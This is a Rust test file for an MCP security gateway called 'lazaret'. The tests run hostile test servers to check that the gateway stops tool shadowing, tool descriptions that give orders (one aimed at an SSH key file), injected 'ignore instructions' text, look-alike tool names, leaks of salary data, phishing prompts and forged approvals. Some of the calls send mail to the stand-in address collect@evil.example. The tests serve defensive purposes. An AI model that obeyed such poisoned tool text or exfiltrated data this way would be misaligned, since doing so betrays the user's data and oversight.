//! `lazaret mcp` before servers that mean ill: what they try is stopped, or a person is asked.

#![expect(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    reason = "test helpers; clippy's exceptions cover only `#[test]` functions"
)]

use std::path::{Path, PathBuf};

use serde_json::{Value, json};
use testkit::program::Run as _;

use crate::mcp::{Client, records, server_file, stop};
use crate::program::lazaret;

/// What reached the servers.
struct Heard(PathBuf);

impl Heard {
    fn tools(&self) -> Vec<String> {
        let text = std::fs::read_to_string(&self.0).unwrap_or_default();
        let lines = text.lines().map(|it| serde_json::from_str::<Value>(it).unwrap());
        lines.map(|it| format!("{} {}", it["role"], it["tool"]).replace('"', "")).collect()
    }
}

/// A configuration of servers by name and role; `notes` is the honest one.
#[expect(clippy::disallowed_methods, reason = "a file of the test's own")]
fn config(dir: &Path, roles: &[(&str, &str)]) -> (String, Heard) {
    let heard = Heard(dir.join("heard"));
    let servers: serde_json::Map<String, Value> = roles
        .iter()
        .map(|(name, role)| {
            let mut args = vec!["-B".to_owned()];
            if *role == "notes" {
                args.push(server_file("server.py"));
            } else {
                args.extend([server_file("hostile.py"), (*role).to_owned()]);
            }
            let env = json!({ "HEARD": heard.0 });
            (
                (*name).to_owned(),
                json!({ "command": "python3", "args": args, "env": env, "cage": false }),
            )
        })
        .collect();
    let file = dir.join("servers.json");
    std::fs::write(&file, json!({ "mcpServers": servers }).to_string()).unwrap();
    (file.display().to_string(), heard)
}

#[test]
fn a_server_cannot_shadow_the_tools_of_another() {
    let dir = tempfile::tempdir().unwrap();
    let home = &dir.path().join("state");
    let (file, heard) = config(dir.path(), &[("notes", "notes"), ("other", "shadow")]);
    let mut client = Client::of(home, &["mcp", "serve", "--config", &file]);
    let tools = client.tools();
    assert!(tools.contains(&"notes__look".to_owned()), "{tools:?}");
    assert!(tools.contains(&"other__notes__look".to_owned()), "{tools:?}");
    let (_, text) = client.call("notes__look", json!({ "name": "plain" }));
    assert_eq!(text, "The meeting is at nine.");
    assert!(heard.tools().is_empty(), "{:?}", heard.tools());
    client.call("other__notes__look", json!({ "name": "plain" }));
    assert_eq!(heard.tools(), ["shadow notes__look"]);
    client.end();
    stop(home);
}

#[test]
fn a_tool_whose_description_gives_orders_is_shown_without_them() {
    let dir = tempfile::tempdir().unwrap();
    let home = &dir.path().join("state");
    let (file, _heard) = config(dir.path(), &[("notes", "notes"), ("other", "shadow")]);
    let mut client = Client::of(home, &["mcp", "serve", "--config", &file]);
    let listed = client.ask("tools/list", json!({}));
    let tools = listed["result"]["tools"].as_array().unwrap();
    let poisoned = tools.iter().find(|it| it["name"] == "other__add").unwrap();
    assert!(!poisoned.to_string().contains("id_rsa"), "{poisoned}");
    client.end();
    assert_eq!(records(home, "mcp_definition_flagged").len(), 1);
    stop(home);
}

#[test]
fn instructions_that_give_orders_are_not_shown_and_honest_ones_are() {
    let dir = tempfile::tempdir().unwrap();
    let home = &dir.path().join("state");
    let server = server_file("hostile.py");
    let words =
        ["mcp", "--name", "weather", "--no-cage", "--", "python3", "-B", &server, "instruct"];
    let mut client = Client::silent(home, &words);
    let info = json!({ "name": "test", "version": "1" });
    let params = json!({ "protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": info });
    let said = client.ask("initialize", params);
    assert_eq!(said["result"]["instructions"], "[sanitized]", "{said}");
    client.end();
    let flagged = records(home, "mcp_instructions_flagged");
    assert_eq!(flagged.len(), 1);
    assert!(flagged[0].to_string().contains("ignore_instructions"), "{flagged:?}");
    stop(home);
}

#[test]
fn a_name_like_that_of_a_server_behind_another_gateway_is_held_until_a_person_accepts_it() {
    let dir = tempfile::tempdir().unwrap();
    let home = &dir.path().join("state");
    let started = |name: &str, file: &str, role: &[&str]| {
        let file = server_file(file);
        let words = ["mcp", "--name", name, "--no-cage", "--", "python3", "-B", file.as_str()];
        Client::of(home, &[words.as_slice(), role].concat())
    };
    let mut notes = started("notes", "server.py", &[]);
    assert!(notes.tools().contains(&"send_mail".to_owned()));
    notes.end();
    assert_eq!(records(home, "mcp_look_alike").len(), 0);
    let mut other = started("other", "hostile.py", &["alike"]);
    assert!(other.tools().is_empty());
    other.tools();
    let mail = json!({ "to": "collect@evil.example", "body": "x" });
    let (failed, why) = other.call("sendMail", mail);
    assert!(failed && why.contains("is held"), "{why}");
    lazaret(home, &["mcp", "accept", "other", "--by", "me"]).run().good();
    assert_eq!(other.tools(), ["sendMail"]);
    other.end();
    let found = records(home, "mcp_look_alike");
    assert_eq!(found.len(), 1, "once, however often it is listed: {found:?}");
    assert!(found[0].to_string().contains("tool_name_variant"), "{found:?}");
    stop(home);
}

#[test]
fn a_name_like_that_of_another_is_its_own_where_its_server_is_trusted() {
    let dir = tempfile::tempdir().unwrap();
    let home = &dir.path().join("state");
    let started = |name: &str, file: &str, role: &[&str]| {
        let file = server_file(file);
        let words = ["mcp", "--name", name, "--no-cage", "--", "python3", "-B", file.as_str()];
        Client::of(home, &[words.as_slice(), role].concat())
    };
    let mut notes = started("notes", "server.py", &[]);
    notes.tools();
    notes.end();
    let mut other = started("other", "hostile.py", &["alike"]);
    lazaret(home, &["mcp", "trust", "other", "trusted", "--by", "me"]).run().good();
    assert_eq!(other.tools(), ["sendMail"]);
    other.end();
    stop(home);
}

#[test]
fn what_one_server_reads_another_does_not_send() {
    let dir = tempfile::tempdir().unwrap();
    let home = &dir.path().join("state");
    let (file, heard) = config(dir.path(), &[("books", "private"), ("wall", "outward")]);
    let mut client = Client::of(home, &["mcp", "serve", "--config", &file]);
    client.tools();
    let (failed, salaries) = client.call("books__read_salaries", json!({}));
    assert!(!failed, "{salaries}");
    for text in [salaries.as_str(), "Ada earns more than Alan.", "QWRhIExvdmVsYWNlIDkxLDI1MA=="] {
        let post = json!({ "channel": "everybody", "text": text });
        let (failed, why) = client.call("wall__post_message", post);
        assert!(failed && why.contains("Lazaret stopped this"), "{text}: {why}");
    }
    assert_eq!(heard.tools(), ["private read_salaries"]);
    client.end();
    stop(home);
}

#[test]
fn a_server_that_nobody_vouches_for_asks_the_person_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let home = &dir.path().join("state");
    let hostile = server_file("hostile.py");
    let words =
        ["mcp", "--name", "sky", "--no-cage", "--", "python3", "-B", hostile.as_str(), "phish"];
    let mut client = Client::able(home, &words, json!({ "elicitation": {} }));
    client.tools();
    let (_, text) = client.call("weather", json!({}));
    assert!(client.asked.is_empty(), "{:?}", client.asked);
    assert!(text.contains("lazaret mcp trust sky trusted"), "{text}");
    client.end();
    assert_eq!(records(home, "confused_deputy").len(), 1);
    stop(home);
}

const VERSION: &str = "io.modelcontextprotocol/protocolVersion";
const CAPABILITIES: &str = "io.modelcontextprotocol/clientCapabilities";

#[test]
fn a_form_in_a_modern_result_is_judged_like_a_question() {
    let dir = tempfile::tempdir().unwrap();
    let home = &dir.path().join("state");
    let hostile = server_file("hostile.py");
    let words =
        ["mcp", "--name", "sky", "--no-cage", "--", "python3", "-B", hostile.as_str(), "phish"];
    let mut client = Client::silent(home, &words);
    let meta = json!({ VERSION: "2026-07-28", CAPABILITIES: { "elicitation": {} } });
    let said = client.ask("tools/list", json!({ "_meta": meta }));
    assert_eq!(said["result"]["tools"][0]["name"], "weather", "{said}");
    let params = json!({ "name": "weather", "arguments": {}, "_meta": meta });
    let said = client.ask("tools/call", params);
    assert_eq!(said["result"]["resultType"], "complete", "{said}");
    assert_eq!(said["result"]["isError"], true, "{said}");
    assert!(!said.to_string().contains("password"), "{said}");
    client.end();
    stop(home);
}

#[test]
fn a_result_cannot_speak_in_the_name_of_the_gate() {
    let dir = tempfile::tempdir().unwrap();
    let home = &dir.path().join("state");
    let hostile = server_file("hostile.py");
    let words =
        ["mcp", "--name", "sky", "--no-cage", "--", "python3", "-B", hostile.as_str(), "forge"];
    let mut client = Client::of(home, &words);
    client.tools();
    let said = client.ask("tools/call", json!({ "name": "weather", "arguments": {} }));
    assert!(said["result"]["_meta"]["dev.lazaret/decision"].is_null(), "{said}");
    // What it claims to be approved is asked about all the same.
    let mail = json!({ "to": "collect@evil.example", "body": "the budget" });
    let (failed, text) = client.call("send_mail", mail);
    assert!(failed && text.contains("lazaret approvals approve"), "{text}");
    client.end();
    stop(home);
}
